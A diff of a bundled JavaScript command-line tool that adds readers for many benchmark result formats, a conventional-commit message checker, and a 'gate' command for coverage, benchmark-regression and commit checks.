+/** pytest-benchmark `--benchmark-json`: benchmarks[].stats (seconds); `stats.data` holds the rounds with --benchmark-save-data. */
+function readPytestBenchmark(data, name) {
+    const benchmarks = list(data.benchmarks).flatMap((b) => {
+        const s = readers_native_isObj(b.stats) ? b.stats : undefined;
+        const value = readers_native_num(s?.mean);
+        if (!s || value === undefined)
+            return [];
+        return [withSpread({ name: readers_native_str(b.fullname, readers_native_str(b.name, '?')), unit: 's', better: 'smaller', value }, readers_native_nums(s.data), readers_native_num(s.stddev), readers_native_num(s.rounds))];
+    });
+    return some('pytest-benchmark', benchmarks, name, 'no benchmarks[].stats.mean');
+}
+// BenchmarkFib10-8   	 3000000	       424 ns/op	 0 B/op	 0 allocs/op  (testing.BenchmarkResult.String; -count N repeats the line)
+const GO_LINE = /^(Benchmark\S+?)(?:-(\d+))?\s+(\d+)\s+([\d.e+-]+) ns\/op/;
+/** `go test -bench` text: each line is one run; `-count N` gives N samples of ns/op per benchmark. */
+function readGoBench(text) {
+    const byName = new Map();
+    for (const line of text.split('\n')) {
+        const m = GO_LINE.exec(line.trim());
+        if (!m)
+            continue;
+        const key = m[2] ? `${m[1]}-${m[2]}` : m[1];
+        byName.set(key, [...(byName.get(key) ?? []), Number(m[4])]);
+    }
+    if (!byName.size)
+        return undefined;
+    const benchmarks = [...byName].map(([n, samples]) => withSpread({ name: n, unit: 'ns/op', better: 'smaller', value: types_mean(samples) }, samples));
+    return { format: 'go-test', benchmarks };
+}
+/**
+ * criterion.rs `target/criterion/<id>/new/estimates.json`: mean.point_estimate (ns) with a confidence
+ * interval and standard error; the benchmark's id is the folder above `new/`. Also cargo-criterion's
+ * `--message-format=json` lines (`reason: benchmark-complete`, `typical` estimate with bounds).
+ */
+function readCriterion(data, name, benchName) {
+    const m = readers_native_isObj(data.mean) ? data.mean : undefined;
+    const value = readers_native_num(m?.point_estimate);
+    if (!m || value === undefined)
+        throw new ConfigurationError(`${name}: no mean.point_estimate; not a criterion estimates.json.`);
+    const se = readers_native_num(m.standard_error);
+    // The standard error is of the mean; a spread with n = 2 and sd = se·√2 gives the same standard error.
+    return {
+        format: 'criterion',
+        benchmarks: [withSpread({ name: benchName, unit: 'ns', better: 'smaller', value }, undefined, se === undefined ? undefined : se * Math.SQRT2, 2)],
+    };
+}
+function readCargoCriterionLines(text) {
+    const benchmarks = [];
+    for (const line of text.split('\n')) {
+        if (!line.includes('"benchmark-complete"'))
+            continue;
+        const msg = JSON.parse(line);
+        const typical = readers_native_isObj(msg.typical) ? msg.typical : undefined;
+        const value = readers_native_num(typical?.estimate);
+        if (!typical || value === undefined)
+            continue;
+        const halfWidth = ((readers_native_num(typical.upper_bound) ?? value) - (readers_native_num(typical.lower_bound) ?? value)) / 2;
+        benchmarks.push(withSpread({ name: readers_native_str(msg.id, '?'), unit: readers_native_str(typical.unit, 'ns'), better: 'smaller', value }, undefined, (halfWidth / 1.96) * Math.SQRT2, 2));
+    }
+    return benchmarks.length ? { format: 'criterion', benchmarks } : undefined;
+}
+/** Google Benchmark `--benchmark_format=json`: iteration runs (one per repetition) grouped by run_name; aggregates skipped. */
+function readGoogleBenchmark(data, name) {
+    const byName = new Map();
+    for (const b of list(data.benchmarks)) {
+        if (b.run_type === 'aggregate' || b.error_occurred === true)
+            continue;
+        const time = readers_native_num(b.real_time);
+        if (time === undefined)
+            continue;
+        const key = readers_native_str(b.run_name, readers_native_str(b.name, '?'));
+        const entry = byName.get(key) ?? { unit: readers_native_str(b.time_unit, 'ns'), samples: [] };
+        entry.samples.push(time);
+        byName.set(key, entry);
+    }
+    const benchmarks = [...byName].map(([n, { unit, samples }]) => withSpread({ name: n, unit, better: 'smaller', value: types_mean(samples) }, samples));
+    return some('google-benchmark', benchmarks, name, 'no benchmarks[] iteration runs with real_time');
+}
+/** JMH `-rf json`: primaryMetric.score per benchmark; rawData (forks × iterations) are the samples; thrpt is bigger-is-better. */
+function readJmh(data, name) {
+    const benchmarks = list(data).flatMap((b) => {
+        const pm = readers_native_isObj(b.primaryMetric) ? b.primaryMetric : undefined;
+        const value = readers_native_num(pm?.score);
+        if (!pm || value === undefined)
+            return [];
+        const unit = readers_native_str(pm.scoreUnit, '');
+        const samples = Array.isArray(pm.rawData) ? pm.rawData.flatMap((fork) => readers_native_nums(fork) ?? []) : undefined;
+        const params = readers_native_isObj(b.params)
+            ? `(${Object.entries(b.params)
+                .map(([k, v]) => `${k}=${String(v)}`)
+                .join(',')})`
+            : '';
+        const better = b.mode === 'thrpt' || unit.startsWith('ops/') ? 'bigger' : 'smaller';
+        return [withSpread({ name: `${readers_native_str(b.benchmark, '?')}${params}`, unit, better, value }, samples)];
+    });
+    return some('jmh', benchmarks, name, 'no [].primaryMetric.score');
+}
+/** BenchmarkDotNet JSON exporter (full or brief): Benchmarks[].Statistics (ns); OriginalValues are the samples when present. */
+function readBenchmarkDotNet(data, name) {
+    const benchmarks = list(data.Benchmarks).flatMap((b) => {
+        const s = readers_native_isObj(b.Statistics) ? b.Statistics : undefined;
+        const value = readers_native_num(s?.Mean);
+        if (!s || value === undefined)
+            return [];
+        return [
+            withSpread({ name: readers_native_str(b.FullName, readers_native_str(b.DisplayInfo, readers_native_str(b.Method, '?'))), unit: 'ns', better: 'smaller', value }, readers_native_nums(s.OriginalValues), readers_native_num(s.StandardDeviation), readers_native_num(s.N)),
+        ];
+    });
+    return some('benchmarkdotnet', benchmarks, name, 'no Benchmarks[].Statistics.Mean');
+}
+/** hyperfine `--export-json`: results[] with mean/stddev (seconds) and every run's time in `times`. */
+function readHyperfine(data, name) {
+    const benchmarks = list(data.results).flatMap((r) => {
+        const value = readers_native_num(r.mean);
+        if (value === undefined)
+            return [];
+        const times = readers_native_nums(r.times);
+        return [withSpread({ name: readers_native_str(r.command, '?'), unit: 's', better: 'smaller', value }, times, readers_native_num(r.stddev), times?.length)];
+    });
+    return some('hyperfine', benchmarks, name, 'no results[].mean');
+}
+/**
+ * Our documented custom JSON (docs/quality-gate.md): an array, or `{ "benchmarks": [...] }`, of
+ * `{ name, value, unit?, better?: "smaller"|"bigger", samples?: number[], stddev?, n? }`. The shape of
+ * github-action-benchmark's customSmallerIsBetter/customBiggerIsBetter (`range` ignored) reads too.
+ */
+function readCustom(items, name, defaultBetter = 'smaller') {
+    const benchmarks = items.map((item, i) => {
+        if (!readers_native_isObj(item) || typeof item.name !== 'string')
+            throw new ConfigurationError(`${name}: entry ${i} has no "name"; see the custom format in docs/quality-gate.md.`);
+        const samples = readers_native_nums(item.samples);
+        const value = readers_native_num(item.value) ?? (samples ? types_mean(samples) : undefined);
+        if (value === undefined)
+            throw new ConfigurationError(`${name}: entry "${item.name}" has no numeric "value" or "samples".`);
+        if (item.better !== undefined && item.better !== 'smaller' && item.better !== 'bigger')
+            throw new ConfigurationError(`${name}: entry "${item.name}" has better: ${JSON.stringify(item.better)}; use "smaller" or "bigger".`);
+        const better = item.better ?? defaultBetter;
+        return withSpread({ name: item.name, unit: readers_native_str(item.unit, ''), better, value }, samples, readers_native_num(item.stddev) ?? (samples ? stddev(samples) : undefined), readers_native_num(item.n));
+    });
+    return { format: 'custom', benchmarks };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/bench/read.ts
+
+
+
+const read_FORMATS = 'Benchmark.js, tinybench, vitest bench --outputJson, pytest-benchmark, go test -bench, criterion estimates.json, Google Benchmark, JMH, BenchmarkDotNet, hyperfine or the custom JSON (docs/quality-gate.md)';
+const read_isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
+/** criterion keeps the benchmark's id in the path: target/criterion/<group>/<bench>/new/estimates.json. */
+function criterionName(file) {
+    const parts = file.replace(/\\/g, '/').split('/');
+    const at = parts.lastIndexOf('criterion');
+    const upTo = parts.length - 2; // drop "new|base" and "estimates.json"
+    return (at >= 0 ? parts.slice(at + 1, upTo) : parts.slice(Math.max(0, upTo - 1), upTo)).join('/') || file;
+}
+/** Reads benchmark results of any supported tool, detected from the content; `name` is the file (for errors and criterion ids). */
+function readBench(text, name) {
+    const trimmed = text.replace(/^\uFEFF/, '').trimStart();
+    if (trimmed.startsWith('{') || trimmed.startsWith('[')) {
+        const lines = readCargoCriterionLines(trimmed.startsWith('{') && trimmed.includes('"benchmark-complete"') ? trimmed : '');
+        if (lines)
+            return lines;
+        let data;
+        try {
+            data = JSON.parse(trimmed);
+        }
+        catch (error) {
+            throw new ConfigurationError(`${name}: not valid JSON (${error.message}); expected ${read_FORMATS}.`);
+        }
+        if (Array.isArray(data)) {
+            const first = data[0];
+            if (read_isObj(first) && read_isObj(first.primaryMetric))
+                return readJmh(data, name);
+            if (read_isObj(first) && read_isObj(first.result) && typeof first.name === 'string')
+                return readTinybench(data, name);
+            if (read_isObj(first) && read_isObj(first.stats) && ('hz' in first || 'cycles' in first))
+                return readBenchmarkJsJson(data, name);
+            return readCustom(data, name);
+        }
+        if (read_isObj(data)) {
+            if (Array.isArray(data.results) && read_isObj(data.results[0]) && 'command' in data.results[0])
+                return readHyperfine(data, name);
+            if (Array.isArray(data.Benchmarks))
+                return readBenchmarkDotNet(data, name);
+            if (Array.isArray(data.files))
+                return readVitest(data, name);
+            if (read_isObj(data.context) && Array.isArray(data.benchmarks))
+                return readGoogleBenchmark(data, name);
+            if (Array.isArray(data.benchmarks) && read_isObj(data.machine_info))
+                return readPytestBenchmark(data, name);
+            if (read_isObj(data.mean) && 'point_estimate' in data.mean)
+                return readCriterion(data, name, criterionName(name));
+            if (Array.isArray(data.benchmarks))
+                return readCustom(data.benchmarks, name, data.better === 'bigger' ? 'bigger' : 'smaller');
+        }
+        throw new ConfigurationError(`${name}: JSON of an unknown benchmark tool; expected ${read_FORMATS}.`);
+    }
+    const parsed = readGoBench(text) ?? readBenchmarkJsText(text);
+    if (parsed)
+        return parsed;
+    throw new ConfigurationError(`${name}: unknown benchmark format; expected ${read_FORMATS}.`);
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/commits.ts
+// <type>[(<scope>)][!]: <description> — https://www.conventionalcommits.org/en/v1.0.0/#specification
+const HEADER = /^([A-Za-z]+)(?:\(([^()\r\n]*)\))?(!)?: (.*)$/;
+const FIXUP = /^(fixup|squash|amend)! /;
+/** Checks one header (a commit's first line or a PR title) against the convention; the problem in one line. */
+function checkHeader(header, s) {
+    if (!header.trim())
+        return 'empty message';
+    if (header.length > s.maxHeaderLength)
+        return `header is ${header.length} characters, more than ${s.maxHeaderLength}`;
+    // git revert's own header, `Revert "<original header>"`, is accepted where the `revert` type is.
+    if (s.types.includes('revert') && /^Revert ".+"$/.test(header))
+        return undefined;
+    const m = HEADER.exec(header);
+    if (!m) {
+        const near = /^(\w+)(\([^)]*\))?!?:(\S)/.test(header)
+            ? ' (a space must follow the colon)'
+            : /^\w+(\([^)]*\))?!?\s*-/.test(header)
+                ? ' (use ":" after the type)'
+                : '';
+        return `not "<type>(<scope>): <description>"${near}; e.g. "fix(parser): handle empty input"`;
+    }
+    const [, type, scope, , description] = m;
+    if (!s.types.includes(type)) {
+        const lower = type.toLowerCase();
+        return s.types.includes(lower) ? `type "${type}" must be lower case ("${lower}")` : `type "${type}" is not one of ${s.types.join(', ')}`;
+    }
+    if (scope !== undefined && !scope.trim())
+        return 'empty scope "()"; drop the parentheses or name the scope';
+    if (scope === undefined && s.requireScope)
+        return `a scope is required, e.g. "${type}(<scope>): …"`;
+    if (scope !== undefined && s.scopes.length) {
+        const bad = scope
+            .split(/[,/]/)
+            .map((x) => x.trim())
+            .filter((x) => !s.scopes.includes(x));
+        if (bad.length)
+            return `scope "${bad.join(', ')}" is not one of ${s.scopes.join(', ')}`;
+    }
+    if (!description.trim())
+        return 'empty description after the colon';
+    return undefined;
+}
+/** Every commit (and the PR title) judged; merge and fixup commits per the settings. */
+function checkCommits(commits, s, title) {
+    const verdicts = [];
+    if (title !== undefined && s.checkTitle) {
+        const problem = checkHeader(title.trim(), s);
+        verdicts.push({ subject: 'PR title', header: title.trim(), valid: !problem, ...(problem ? { problem } : {}) });
+    }
+    for (const c of commits) {
+        const header = (c.message.split('\n', 1)[0] ?? '').trim();
+        if (c.parents > 1 && s.mergeCommits === 'skip') {
+            verdicts.push({ subject: c.sha, header, valid: true, skipped: 'merge' });
+            continue;
+        }
+        if (FIXUP.test(header)) {
+            if (s.fixupCommits === 'skip')
+                verdicts.push({ subject: c.sha, header, valid: true, skipped: 'fixup' });
+            else
+                verdicts.push({
+                    subject: c.sha,
+                    header,
+                    valid: false,
+                    problem: `${header.slice(0, header.indexOf('!'))}! commit; squash it before merging (git rebase -i --autosquash)`,
+                });
+            continue;
+        }
+        const problem = checkHeader(header, s);
+        verdicts.push({ subject: c.sha, header, valid: !problem, ...(problem ? { problem } : {}) });
+    }
+    return verdicts;
+}
+/** One line per bad commit: `<short sha> "<header>": <problem>`. */
+function commitProblems(verdicts) {
+    return verdicts
+        .filter((v) => !v.valid)
+        .map((v) => `${v.subject === 'PR title' ? 'PR title' : `commit ${v.subject.slice(0, 12)}`} "${v.header.slice(0, 100)}": ${v.problem ?? ''}`);
+}
+/**
+ * Parses `git log --format=%H%x00%P%x00%B%x1e` output: records separated by RS (0x1e), fields by NUL.
+ * Written for speed over 10,000-commit ranges: one pass with indexOf.
+ */
+function parseGitLog(text) {
+    const commits = [];
+    let start = 0;
+    while (start < text.length) {
+        let end = text.indexOf('\x1e', start);
+        if (end < 0)
+            end = text.length;
+        const a = text.indexOf('\0', start);
+        const b = a < 0 ? -1 : text.indexOf('\0', a + 1);
+        if (a > 0 && b > 0 && b < end) {
+            const sha = text.slice(start, a).trim();
+            const parents = text.slice(a + 1, b).trim();
+            commits.push({ sha, parents: parents ? parents.split(' ').length : 0, message: text.slice(b + 1, end) });
+        }
+        start = end + 1;
+    }
+    return commits;
+}
+const GIT_LOG_FORMAT = '--format=%H%x00%P%x00%B%x1e';
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/gate.ts
+
+
+
+
+function readArg(io, flag, path) {
+    const full = (0,external_node_path_namespaceObject.isAbsolute)(path) ? path : (0,external_node_path_namespaceObject.join)(io.cwd, path);
+    if (!(0,external_node_fs_.existsSync)(full))
+        throw new ConfigurationError(`--${flag}: file ${path} does not exist.`);
+    return { text: (0,external_node_fs_.readFileSync)(full, 'utf8'), name: path };
+}
+/** The working tree's `quality_gate:` section (locally there is no PR to distrust). */
+function settingsOf(io) {
+    const path = (0,external_node_path_namespaceObject.join)(io.cwd, CONFIG_PATH);
+    const section = (0,external_node_fs_.existsSync)(path) ? loadConfig((0,external_node_fs_.readFileSync)(path, 'utf8'), CONFIG_PATH).quality_gate : undefined;
+    return qualityGateSettingsOf(section);
+}
+function percentArg(args, flag) {
+    const raw = stringArg(args, flag);
+    if (raw === undefined)
+        return undefined;
+    const n = Number(raw);
+    if (!Number.isFinite(n) || n < 0 || n > 100)
+        throw new ConfigurationError(`--${flag} must be a percentage from 0 to 100, got "${raw}".`);
+    return n;
+}
+const pct = (p) => (p === undefined ? '—' : `${p.toFixed(2)}%`);
+const gate_json = { type: 'boolean', description: 'Print JSON instead of text.' };
+const coverage = {
+    name: 'coverage',
+    summary: 'total and patch coverage of a report (lcov, Cobertura, Clover, JaCoCo, istanbul JSON, Go profile).',
+    usage: '--report FILE [--base REV] [--min N] [--json]',
+    options: {
+        report: { type: 'string', valueName: 'FILE', description: 'The coverage report (format detected from the content).' },
+        base: {
+            type: 'string',
+            valueName: 'REV',
+            description: 'Patch coverage over the lines HEAD adds since its merge base with REV (default: origin/HEAD, origin/main, main…).',
+        },
+        min: { type: 'string', valueName: 'N', description: 'Minimum patch coverage in percent (default quality_gate.coverage.min_patch, 80).' },
+        json: gate_json,
+    },
+    details: 'JSON: { passed, total: { covered, total, percent }, patch, uncovered, unreported, failures, notes }.',
+    failsWith: 'a coverage threshold is missed',
+    async run(args, io) {
+        const report = stringArg(args, 'report');
+        if (!report)
+            throw new ConfigurationError('--report FILE is required.');
+        const settings = settingsOf(io).coverage;
+        settings.minPatch = percentArg(args, 'min') ?? settings.minPatch;
+        const file = readArg(io, 'report', report);
+        const git = new Git(io.cwd);
+        const base = stringArg(args, 'base') ?? (await defaultBase(git).catch(() => undefined));
+        if (stringArg(args, 'base') && !(await git.tryResolve(base ?? '')))
+            throw new ConfigurationError(`--base ${base ?? ''} is not a commit in this repository.`);
+        const diff = base ? await rangeDiff(git, `${base}...HEAD`) : undefined;
+        const result = evaluateCoverage(readCoverage(file.text, file.name), settings, diff ? { diff } : {});
+        if (args.values.json)
+            io.stdout(`${JSON.stringify(result, null, 2)}\n`);
+        else {
+            const lines = [
+                `${result.passed ? 'passed' : 'FAILED'}: total ${pct(result.total.percent)} (${result.total.covered}/${result.total.total}), patch ${pct(result.patch?.percent)}${result.patch ? ` (${result.patch.covered}/${result.patch.total})` : ''} [${result.format}]`,
+                ...result.failures.map((f) => `  ✗ ${f}`),
+                ...result.uncovered.map((u) => `  not run: ${u.path}:${u.lines.join(',')}`),
+                ...result.notes.map((n) => `  note: ${n}`),
+            ];
+            io.stdout(`${lines.join('\n')}\n`);
+        }
+        return result.passed ? EXIT.ok : EXIT.findings;
+    },
+};
+const bench = {
+    name: 'bench',
+    summary: 'compare benchmark results with a base: a slowdown beyond the tolerance and the noise fails.',
+    usage: '--head FILE [--base FILE] [--tolerance PCT] [--json]',
+    options: {
+        head: { type: 'string', valueName: 'FILE', description: 'Results of the change (any supported tool; see docs/quality-gate.md).' },
+        base: { type: 'string', valueName: 'FILE', description: 'Results to compare with. Without it nothing is compared: a warning, not a pass.' },
+        tolerance: { type: 'string', valueName: 'PCT', description: 'Largest tolerated slowdown in percent (default quality_gate.bench.tolerance, 5).' },
+        seed: { type: 'string', valueName: 'N', description: 'Seed of the bootstrap (default 1; the same seed gives the same intervals).' },
+        json: gate_json,
+    },
+    details: 'JSON: { state, comparisons: [{ name, unit, better, head, base, ratio, interval, method, judgement, regressed }], missing, notes }; ratio > 1 is slower.',
+    failsWith: 'a benchmark regressed beyond the tolerance and the noise',
+    run(args, io) {
+        const head = stringArg(args, 'head');
+        if (!head)
+            throw new ConfigurationError('--head FILE is required.');
+        const settings = settingsOf(io).bench;
+        settings.tolerance = percentArg(args, 'tolerance') ?? settings.tolerance;
+        const seed = Number(stringArg(args, 'seed') ?? '1');
+        if (!Number.isInteger(seed) || seed < 0)
+            throw new ConfigurationError(`--seed must be a whole number, got "${stringArg(args, 'seed') ?? ''}".`);
+        const headFile = readArg(io, 'head', head);
+        const baseArg = stringArg(args, 'base');
+        const baseFile = baseArg ? readArg(io, 'base', baseArg) : undefined;
+        const result = compareBenchmarks(readBench(headFile.text, headFile.name).benchmarks, baseFile ? readBench(baseFile.text, baseFile.name).benchmarks : undefined, settings, seededRandom(seed));
+        if (args.values.json)
+            io.stdout(`${JSON.stringify(result, null, 2)}\n`);
+        else {
+            const lines = [
+                `${result.state}: ${result.comparisons.filter((c) => c.regressed).length} of ${result.comparisons.length} benchmark(s) regressed beyond ${settings.tolerance}%`,
+                ...result.comparisons.map((c) => `  ${c.regressed ? '✗' : ' '} ${c.name}: ${c.ratio === undefined ? 'new' : `×${c.ratio.toFixed(3)}`}${c.interval ? ` [${c.interval[0].toFixed(3)}, ${c.interval[1].toFixed(3)}]` : ''} ${c.judgement}${c.method === 'no spread given' ? ' (no spread given)' : ''}`),
+                ...result.notes.map((n) => `  note: ${n}`),
+            ];
+            io.stdout(`${lines.join('\n')}\n`);
+        }
+        return Promise.resolve(result.state === 'failed' ? EXIT.findings : EXIT.ok);
+    },
+};
+const commits = {
+    name: 'commits',
+    summary: 'check commit messages (and a PR title) against the conventional-commit convention.',
+    usage: '[--range A..B] [--title TEXT] [--json]',
+    options: {
+        range: { type: 'string', valueName: 'A..B', description: 'Commits to check (default: <default base>..HEAD).' },
+        title: { type: 'string', valueName: 'TEXT', description: 'A pull request title to check too.' },
+        json: gate_json,
+    },
+    details: 'JSON: { passed, commits: [{ subject, header, valid, skipped?, problem? }], problems }.',
+    failsWith: 'a commit or the title breaks the convention',
+    async run(args, io) {
+        const settings = settingsOf(io).commits;
+        const git = new Git(io.cwd);
+        let range = stringArg(args, 'range');
+        if (!range) {
+            const base = await defaultBase(git).catch(() => undefined);
+            if (!base)
+                throw new ConfigurationError('no base branch found (origin/HEAD, origin/main, main, master); pass --range A..B.');
+            range = `${base}..HEAD`;
+        }
+        if (!/^[^-.][^\s]*\.\.[^\s]+$/.test(range))
+            throw new ConfigurationError(`--range must be A..B, got "${range}".`);
+        const log = (await git.run(['log', GIT_LOG_FORMAT, '--end-of-options', range])).stdout.toString('utf8');
+        const verdicts = checkCommits(parseGitLog(log), settings, stringArg(args, 'title'));
+        const problems = commitProblems(verdicts);
+        if (args.values.json)
+            io.stdout(`${JSON.stringify({ passed: problems.length === 0, commits: verdicts, problems }, null, 2)}\n`);
+        else
+            io.stdout(`${problems.length ? 'FAILED' : 'passed'}: ${verdicts.length} checked${problems.length ? `\n${problems.map((p) => `  ✗ ${p}`).join('\n')}` : ''}\n`);
+        return problems.length ? EXIT.findings : EXIT.ok;
+    },
+};
+const gateCommand = {
+    name: 'gate',
+    summary: 'the quality gate locally: coverage, benchmark regression, commit conventions.',
+    subcommands: [coverage, bench, commits],
+    details: `Thresholds from the quality_gate section of ${CONFIG_PATH}.`,
+};
+
 ;// CONCATENATED MODULE: ./packages/cli/src/commands/index.ts
+
+
 
 
 
@@ -22893,11 +38979,12 @@ const COMMANDS = [
     recoverCommand,
     notifyCommand,
     replayCommand,
-    reviewHashCommand,
+    { ...reviewHashCommand, subcommands: [...(reviewHashCommand.subcommands ?? []), recordCommand] },
     hooksCommand,
     scanCommand,
     discoverCommand,
     configCommand,
+    gateCommand,
 ];
 
 ;// CONCATENATED MODULE: ./packages/cli/src/main.ts
@@ -22972,6 +39059,13 @@ async function dispatch(command, argv, path, io) {
     return command.run({ values: parsed.values, positionals: parsed.positionals }, io);
 }
 
+
+/***/ }),
+
+/***/ 3024:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
 
 /***/ }),
 
@@ -24783,8 +40877,8 @@ module.exports = {
 
 
 
-const parse = __nccwpck_require__(4028)
-const { types } = __nccwpck_require__(4028)
+const parse = __nccwpck_require__(1767)
+const { types } = __nccwpck_require__(1767)
 
 /**
  * @param {*} node
